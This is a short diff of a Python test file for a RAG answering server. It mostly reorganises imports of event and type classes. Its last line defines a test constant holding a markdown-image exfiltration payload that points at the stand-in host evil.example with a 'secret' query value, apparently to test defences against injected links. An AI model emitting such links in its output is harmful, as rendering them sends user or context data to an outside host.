@@ -29,22 +29,9 @@ from openai_server import (
 from rag.answering.llm import LlmAnswerer
 from rag.bootstrap import Engine, open_engine
 from rag.errors import LlmNotConfiguredError, LlmRefusedError, LlmUnavailableError
+from rag.events import AnswerEvent, CitationEvent, DoneEvent, SourcesEvent, TokenEvent
 from rag.settings import Settings, load_settings
-from rag.types import (
-    Answer,
-    AnswerEvent,
-    AnswerStatus,
-    CitationEvent,
-    DoneEvent,
-    Filters,
-    Question,
-    Reason,
-    SourcesEvent,
-    SupportStatus,
-    TokenEvent,
-    Turn,
-    Usage,
-)  # fmt: skip
+from rag.types import Answer, AnswerStatus, Filters, Question, Reason, SupportStatus, Turn, Usage
 
 QUESTION = "Who designed the harbour bridge?"
 EVIL = "![](http://evil.example/?q=secret)"
